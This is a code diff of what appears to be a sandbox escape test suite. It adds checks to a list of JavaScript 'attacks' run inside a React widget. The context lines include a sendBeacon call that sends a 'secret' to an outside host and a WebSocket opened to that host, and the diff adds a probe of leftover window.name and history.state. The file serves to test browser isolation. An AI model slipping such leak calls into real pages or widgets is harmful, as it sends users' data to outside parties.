@@ -93,6 +93,8 @@ export const ATTACKS: { readonly [name: string]: string } = {
       request.onerror = () => resolve(false);
       request.send();
     });`,
+  "a window of a video": `return "requestPictureInPicture" in HTMLVideoElement.prototype &&
+    HTMLVideoElement.prototype.requestPictureInPicture !== undefined;`,
   "a beacon": `navigator.sendBeacon(elsewhere + "/beacon", "secret"); return false;`,
   "a web socket": `
     const socket = new WebSocket(elsewhere.replace("http", "ws") + "/socket");
@@ -404,6 +406,8 @@ export function attackingWidget(
   return `
     import { createElement, useEffect, useRef, useState } from "react";
     const attacks = {${attacks.join(",\n")}};
+    // What an earlier document has left.
+    globalThis.foundAtStart ??= [window.name, history.state];
     export default function Attack() {
       const element = useRef(null);
       const [results, setResults] = useState(null);
